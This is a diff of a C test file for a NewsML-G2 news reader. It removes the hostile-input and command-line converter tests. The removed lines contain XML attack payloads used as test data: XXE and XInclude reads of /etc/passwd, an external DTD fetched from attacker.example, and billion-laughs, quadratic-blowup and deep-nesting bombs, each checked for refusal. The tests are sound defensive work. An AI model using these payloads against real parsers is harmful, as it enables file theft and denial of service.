@@ -1,4 +1,4 @@
-/* test-reader.c: NewsML-G2 in: round trips, agency copy, hostile input
+/* test-reader.c: NewsML-G2 in: round trips and agency copy
  *
  * SPDX-License-Identifier: GPL-3.0-or-later
  */
@@ -9,6 +9,7 @@
 
 #include "copydesk-core.h"
 #include "copydesk-test-util.h"
+#include "reader-test-util.h"
 #include "sample-article.h"
 
 /* ------------------------------------------------------------ helpers */
@@ -30,36 +31,6 @@ body_of (const char *markup)
 
   g_assert_no_error (error);
   return body;
-}
-
-static GFile *
-temp_folder (void)
-{
-  g_autoptr(GError) error = NULL;
-  g_autofree char *path = g_dir_make_tmp ("copydesk-reader-XXXXXX", &error);
-
-  g_assert_no_error (error);
-  return g_file_new_for_path (path);
-}
-
-static void
-remove_tree (GFile *dir)
-{
-  g_autofree char *path = g_file_get_path (dir);
-  g_autoptr(GDir) d = g_dir_open (path, 0, NULL);
-  const char *name;
-
-  while (d != NULL && (name = g_dir_read_name (d)) != NULL)
-    {
-      g_autoptr(GFile) child = g_file_get_child (dir, name);
-
-      if (g_file_query_file_type (child, G_FILE_QUERY_INFO_NOFOLLOW_SYMLINKS, NULL) ==
-          G_FILE_TYPE_DIRECTORY)
-        remove_tree (child);
-      else
-        g_file_delete (child, NULL, NULL);
-    }
-  g_file_delete (dir, NULL, NULL);
 }
 
 static CopydeskArticle *
@@ -84,21 +55,6 @@ write_ok (CopydeskArticle *article,
 
   g_assert_no_error (error);
   return xml;
-}
-
-static void
-assert_same_bytes (GBytes     *expected,
-                   GBytes     *actual,
-                   const char *what)
-{
-  if (!g_bytes_equal (expected, actual))
-    {
-      g_autofree char *a = g_strndup (g_bytes_get_data (expected, NULL), g_bytes_get_size (expected));
-      g_autofree char *b = g_strndup (g_bytes_get_data (actual, NULL), g_bytes_get_size (actual));
-
-      g_test_message ("%s: first written:\n%s\nwritten again:\n%s", what, a, b);
-      g_test_fail_printf ("%s: write(read(F)) differs from F", what);
-    }
 }
 
 /* The two round trips of the issue: read(write(A)) equals A, and
@@ -368,24 +324,6 @@ test_threads (void)
 
 /* ------------------------------------------------------------ agency copy */
 
-static char *
-examples_path (const char *name)
-{
-  const char *schema = g_getenv ("COPYDESK_NEWSML_SCHEMA");
-  g_autofree char *schema_dir = schema ? g_path_get_dirname (schema) : NULL;
-  g_autofree char *root = schema_dir ? g_path_get_dirname (schema_dir) : NULL;
-
-  if (root == NULL)
-    return NULL;
-  return g_build_filename (root, "examples", name, NULL);
-}
-
-static char *
-plain_text_of_body (CopydeskArticle *article)
-{
-  return copydesk_body_to_markup (copydesk_article_get_body (article));
-}
-
 static gboolean
 has_warning (GPtrArray  *warnings,
              const char *part)
@@ -551,14 +489,6 @@ test_package_in_message (void)
   g_assert_nonnull (strstr (copydesk_article_get_kept_metadata (article),
                             "<contributor role=\"cpprole:editor\">"));
 }
-
-#define NEWS_ITEM_OPEN \
-  "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"urn:test:1\" version=\"3\" " \
-  "standard=\"NewsML-G2\" standardversion=\"2.35\" xml:lang=\"sv\">" \
-  "<itemMeta><itemClass qcode=\"ninat:text\"/><provider literal=\"TT\"/>" \
-  "<versionCreated>2025-06-01T10:00:00+02:00</versionCreated></itemMeta>" \
-  "<contentMeta><headline>Rubrik</headline></contentMeta><contentSet>"
-#define NEWS_ITEM_CLOSE "</contentSet></newsItem>"
 
 /* HTML served as XML with no namespace (the NewsML-G2 default namespace
  * then applies), a figure pointing at a photo that is not in the file, a
@@ -771,391 +701,6 @@ test_floods (void)
   g_assert_nonnull (strstr (copydesk_article_get_kept_metadata (article), "<subject qcode=\"x:2999\"/>"));
 }
 
-/* ------------------------------------------------------------ hostile input */
-
-typedef GBytes *(*Build) (void);
-
-static GBytes *
-text_bytes (const char *text)
-{
-  return g_bytes_new (text, strlen (text));
-}
-
-static GBytes *
-build_xxe (void)
-{
-  return text_bytes ("<?xml version=\"1.0\"?>\n"
-                     "<!DOCTYPE newsItem [ <!ENTITY secret SYSTEM \"file:///etc/passwd\"> ]>\n"
-                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><contentMeta>"
-                     "<headline>&secret;</headline></contentMeta></newsItem>\n");
-}
-
-static GBytes *
-build_external_dtd (void)
-{
-  return text_bytes ("<?xml version=\"1.0\"?>\n"
-                     "<!DOCTYPE newsItem SYSTEM \"http://attacker.example/evil.dtd\">\n"
-                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>\n");
-}
-
-static GBytes *
-build_billion_laughs (void)
-{
-  GString *s = g_string_new ("<?xml version=\"1.0\"?>\n<!DOCTYPE newsItem [\n"
-                             "<!ENTITY l0 \"ha\">\n");
-
-  for (int i = 1; i <= 9; i++)
-    {
-      g_string_append_printf (s, "<!ENTITY l%d \"", i);
-      for (int j = 0; j < 10; j++)
-        g_string_append_printf (s, "&l%d;", i - 1);
-      g_string_append (s, "\">\n");
-    }
-  g_string_append (s, "]>\n<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">&l9;</newsItem>\n");
-  return g_string_free_to_bytes (s);
-}
-
-static GBytes *
-build_quadratic (void)
-{
-  GString *s = g_string_new ("<?xml version=\"1.0\"?>\n<!DOCTYPE newsItem [<!ENTITY a \"");
-
-  for (int i = 0; i < 50000; i++)
-    g_string_append_c (s, 'a');
-  g_string_append (s, "\">]>\n<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">");
-  for (int i = 0; i < 50000; i++)
-    g_string_append (s, "&a;");
-  g_string_append (s, "</newsItem>\n");
-  return g_string_free_to_bytes (s);
-}
-
-static GBytes *
-build_deep (void)
-{
-  GString *s = g_string_new ("<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">\n");
-
-  for (int i = 0; i < 100000; i++)
-    g_string_append (s, "<x>");
-  return g_string_free_to_bytes (s);
-}
-
-static GBytes *
-build_wrong_namespace (void)
-{
-  return text_bytes ("<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-02/\"/>");
-}
-
-static GBytes *
-build_no_namespace (void)
-{
-  return text_bytes ("<?xml version=\"1.0\"?>\n<newsItem guid=\"x\"/>");
-}
-
-static GBytes *
-build_wrong_root (void)
-{
-  return text_bytes ("<?xml version=\"1.0\"?>\n"
-                     "<conceptItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>");
-}
-
-static GBytes *
-build_html (void)
-{
-  return text_bytes ("<html><body><p>Not news</p></body></html>");
-}
-
-static GBytes *
-build_empty_message (void)
-{
-  return text_bytes ("<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><header/>"
-                     "<itemSet/></newsMessage>");
-}
-
-static GBytes *
-build_truncated (void)
-{
-  g_autofree char *path = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
-  g_autoptr(GBytes) whole = copydesk_test_load (path);
-
-  return g_bytes_new_from_bytes (whole, 0, g_bytes_get_size (whole) / 2);
-}
-
-static GBytes *
-build_binary (void)
-{
-  static const guint8 png[] = { 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H' };
-
-  return g_bytes_new (png, sizeof png);
-}
-
-static GBytes *
-build_empty (void)
-{
-  return g_bytes_new (NULL, 0);
-}
-
-static GBytes *
-build_blank (void)
-{
-  return text_bytes (" \n\t\n");
-}
-
-static GBytes *
-build_not_xml (void)
-{
-  return text_bytes ("Headline\n\nThis is plain text, not XML.\n");
-}
-
-static GBytes *
-build_utf16 (void)
-{
-  const char *doc = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
-                    "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>";
-  g_autoptr(GError) error = NULL;
-  gsize len = 0;
-  char *utf16 = g_convert (doc, -1, "UTF-16", "UTF-8", NULL, &len, &error);
-
-  g_assert_no_error (error);
-  return g_bytes_new_take (utf16, len);
-}
-
-static GBytes *
-build_latin1 (void)
-{
-  return text_bytes ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
-                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><contentMeta>"
-                     "<headline>Caf\xe9 cr\xe8me</headline></contentMeta></newsItem>");
-}
-
-static GBytes *
-build_latin1_declared (void)
-{
-  return text_bytes ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
-                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>");
-}
-
-static GBytes *
-build_huge (void)
-{
-  gsize len = 65 * 1024 * 1024;
-  char *data = g_malloc (len);
-
-  memset (data, ' ', len);
-  memcpy (data, "<newsItem>", 10);
-  return g_bytes_new_take (data, len);
-}
-
-static GBytes *
-build_undefined_entity (void)
-{
-  return text_bytes ("<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">&nbsp;</newsItem>");
-}
-
-static GBytes *
-build_wide (void)
-{
-  GString *s = g_string_new ("<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">\n");
-
-  for (int i = 0; i < 250001; i++)
-    g_string_append (s, "<x/>");
-  g_string_append (s, "</newsItem>\n");
-  return g_string_free_to_bytes (s);
-}
-
-static GBytes *
-build_xinclude (void)
-{
-  return text_bytes (NEWS_ITEM_OPEN
-                     "<inlineXML contenttype=\"application/xhtml+xml\">"
-                     "<html xmlns=\"http://www.w3.org/1999/xhtml\" "
-                     "xmlns:xi=\"http://www.w3.org/2001/XInclude\"><body><p>Safe</p>"
-                     "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></body></html>"
-                     "</inlineXML>" NEWS_ITEM_CLOSE);
-}
-
-typedef struct
-{
-  const char *name;
-  Build       build;
-  int         code;       /* -1: the document is read (safely) */
-  const char *message;
-} Hostile;
-
-static const Hostile hostile[] = {
-  { "xxe", build_xxe, COPYDESK_ERROR_UNSAFE, "Line 2: " },
-  { "external-dtd", build_external_dtd, COPYDESK_ERROR_UNSAFE, "document type" },
-  { "billion-laughs", build_billion_laughs, COPYDESK_ERROR_UNSAFE, "document type" },
-  { "quadratic-blowup", build_quadratic, COPYDESK_ERROR_UNSAFE, "document type" },
-  { "deep-nesting", build_deep, COPYDESK_ERROR_TOO_LARGE, "nested more than" },
-  { "wrong-namespace", build_wrong_namespace, COPYDESK_ERROR_NOT_NEWSML, "namespace" },
-  { "no-namespace", build_no_namespace, COPYDESK_ERROR_NOT_NEWSML, "Line 2: " },
-  { "wrong-root", build_wrong_root, COPYDESK_ERROR_NOT_NEWSML, "conceptItem" },
-  { "html", build_html, COPYDESK_ERROR_NOT_NEWSML, "<html>" },
-  { "no-items", build_empty_message, COPYDESK_ERROR_NOT_NEWSML, "no text, picture or package" },
-  { "truncated", build_truncated, COPYDESK_ERROR_MALFORMED, "not well-formed" },
-  { "binary", build_binary, COPYDESK_ERROR_MALFORMED, "binary" },
-  { "empty", build_empty, COPYDESK_ERROR_MALFORMED, "empty" },
-  { "blank", build_blank, COPYDESK_ERROR_MALFORMED, "empty" },
-  { "not-xml", build_not_xml, COPYDESK_ERROR_MALFORMED, "Line 1: " },
-  { "utf-16", build_utf16, COPYDESK_ERROR_INVALID_UTF8, "UTF-16" },
-  { "latin-1", build_latin1, COPYDESK_ERROR_INVALID_UTF8, "Line 2: " },
-  { "latin-1-declared", build_latin1_declared, COPYDESK_ERROR_INVALID_UTF8, "ISO-8859-1" },
-  { "huge", build_huge, COPYDESK_ERROR_TOO_LARGE, "64" },
-  { "too-many-elements", build_wide, COPYDESK_ERROR_TOO_LARGE, "elements" },
-  { "undefined-entity", build_undefined_entity, COPYDESK_ERROR_MALFORMED, "nbsp" },
-  { "xinclude", build_xinclude, -1, NULL },
-};
-
-static void
-test_hostile (gconstpointer data)
-{
-  const Hostile *h = data;
-  g_autoptr(GBytes) bytes = h->build ();
-  g_autoptr(GError) error = NULL;
-  g_autoptr(GPtrArray) warnings = NULL;
-  g_autoptr(CopydeskArticle) article = copydesk_newsml_read (bytes, NULL, &warnings, &error);
-
-  if (h->code < 0)
-    {
-      /* read, and nothing came in from elsewhere */
-      g_autofree char *markup = NULL;
-
-      g_assert_no_error (error);
-      markup = plain_text_of_body (article);
-      g_assert_cmpstr (markup, ==, "Safe\n");
-      return;
-    }
-  g_assert_null (article);
-  g_assert_null (warnings);
-  g_assert_error (error, COPYDESK_ERROR, h->code);
-  if (strstr (error->message, h->message) == NULL)
-    g_error ("%s: “%s” does not say “%s”", h->name, error->message, h->message);
-}
-
-/* ------------------------------------------------------------ the converter */
-
-static char *
-save_bytes (GFile      *dir,
-            const char *name,
-            GBytes     *bytes)
-{
-  g_autoptr(GFile) file = g_file_get_child (dir, name);
-  g_autoptr(GError) error = NULL;
-  const char *data = g_bytes_get_data (bytes, NULL);
-
-  g_file_replace_contents (file, data ? data : "", g_bytes_get_size (bytes), NULL,
-                           FALSE, G_FILE_CREATE_NONE, NULL, NULL, &error);
-  g_assert_no_error (error);
-  return g_file_get_path (file);
-}
-
-/* Every refusal of the table, through the converter: exit status 1, the
- * input named, no output file. ("huge" is left to the in-process test: it
- * would write 65 MiB to disk on every run.) */
-static void
-test_cli_hostile (void)
-{
-  g_autoptr(GFile) dir = temp_folder ();
-  g_autofree char *out = g_build_filename (g_file_peek_path (dir), "out.xml", NULL);
-
-  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
-    {
-      const Hostile *h = &hostile[i];
-      g_autoptr(GBytes) bytes = NULL;
-      g_autofree char *in = NULL;
-      g_autofree char *prefix = NULL;
-
-      if (h->code < 0 || g_str_equal (h->name, "huge"))
-        continue;
-      bytes = h->build ();
-      in = save_bytes (dir, h->name, bytes);
-      prefix = g_strdup_printf ("copydesk-convert: %s: ", in);
-
-      {
-        g_auto(CopydeskTestRun) r = copydesk_test_convert ("--from", "newsml", in, "-o", out);
-
-        if (r.status != 1 || !g_str_has_prefix (r.err, prefix))
-          g_error ("%s: exit status %d, “%s”", h->name, r.status, r.err);
-        g_assert_cmpstr (r.out, ==, "");
-        g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
-      }
-    }
-  remove_tree (dir);
-}
-
-/* The sample file, converted into its own folder, comes out unchanged (the
- * photos need not be there: references are kept as they are); the format is
- * guessed from the content. */
-static void
-test_cli_round_trip (void)
-{
-  g_autofree char *sample = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
-  g_autoptr(GBytes) expected = copydesk_test_load (sample);
-  g_autoptr(GFile) dir = temp_folder ();
-  g_autofree char *in = save_bytes (dir, "sample-article.xml", expected);
-  g_autofree char *out = g_build_filename (g_file_peek_path (dir), "again.xml", NULL);
-  g_auto(CopydeskTestRun) r = copydesk_test_convert (in, "-o", out);
-  g_autoptr(GBytes) actual = NULL;
-
-  g_assert_cmpint (r.status, ==, 0);
-  g_assert_cmpstr (r.err, ==, "");
-  actual = copydesk_test_load (out);
-  assert_same_bytes (expected, actual, "copydesk-convert sample-article.xml");
-  remove_tree (dir);
-}
-
-/* Without --from, XML and UTF-16 are read as NewsML-G2 and refused with the
- * reader's reason. */
-static void
-test_cli_guess (void)
-{
-  g_autoptr(GFile) dir = temp_folder ();
-  g_autoptr(GBytes) utf16 = build_utf16 ();
-  g_autoptr(GBytes) bomb = build_billion_laughs ();
-  g_autofree char *in16 = save_bytes (dir, "utf16.xml", utf16);
-  g_autofree char *inbomb = save_bytes (dir, "bomb.xml", bomb);
-  g_autofree char *out = g_build_filename (g_file_peek_path (dir), "out.xml", NULL);
-  g_auto(CopydeskTestRun) r1 = copydesk_test_convert (in16, "-o", out);
-  g_auto(CopydeskTestRun) r2 = copydesk_test_convert (inbomb, "-o", out);
-
-  g_assert_cmpint (r1.status, ==, 1);
-  g_assert_nonnull (strstr (r1.err, "UTF-16"));
-  g_assert_cmpint (r2.status, ==, 1);
-  g_assert_nonnull (strstr (r2.err, "document type"));
-  g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
-  remove_tree (dir);
-}
-
-static void
-test_cli_warnings (void)
-{
-  g_autofree char *path = examples_path ("LISTING_2_NewsML-G2_Text_Document.xml");
-  g_autoptr(GFile) dir = NULL;
-  g_autofree char *out = NULL;
-
-  if (path == NULL || !g_file_test (path, G_FILE_TEST_EXISTS))
-    {
-      g_test_skip ("the IPTC examples are not there");
-      return;
-    }
-  dir = temp_folder ();
-  out = g_build_filename (g_file_peek_path (dir), "story.xml", NULL);
-  {
-    g_auto(CopydeskTestRun) r = copydesk_test_convert ("--from", "newsml", path, "-o", out);
-    g_autoptr(GBytes) xml = NULL;
-
-    g_assert_cmpint (r.status, ==, 0);
-    /* subjects are kept now, and written back */
-    g_assert_null (strstr (r.err, "central bank"));
-    g_assert_true (g_str_has_prefix (r.err, "warning: "));
-    xml = copydesk_test_load (out);
-    copydesk_test_validate_newsml (xml, "converted LISTING_2");
-    g_assert_nonnull (g_strstr_len (g_bytes_get_data (xml, NULL), g_bytes_get_size (xml),
-                                    "qcode=\"medtop:20000350\""));
-  }
-  remove_tree (dir);
-}
-
 int
 main (int   argc,
       char *argv[])
@@ -1176,16 +721,6 @@ main (int   argc,
   g_test_add_func ("/reader/foreign/odd-shapes", test_odd_shapes);
   g_test_add_func ("/reader/foreign/floods", test_floods);
   g_test_add_func ("/reader/foreign/content-set-shapes", test_content_set_shapes);
-  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
-    {
-      g_autofree char *name = g_strdup_printf ("/reader/hostile/%s", hostile[i].name);
-
-      g_test_add_data_func (name, &hostile[i], test_hostile);
-    }
-  g_test_add_func ("/reader/cli/hostile", test_cli_hostile);
-  g_test_add_func ("/reader/cli/round-trip", test_cli_round_trip);
-  g_test_add_func ("/reader/cli/guess", test_cli_guess);
-  g_test_add_func ("/reader/cli/warnings", test_cli_warnings);
 
   return g_test_run ();
 }
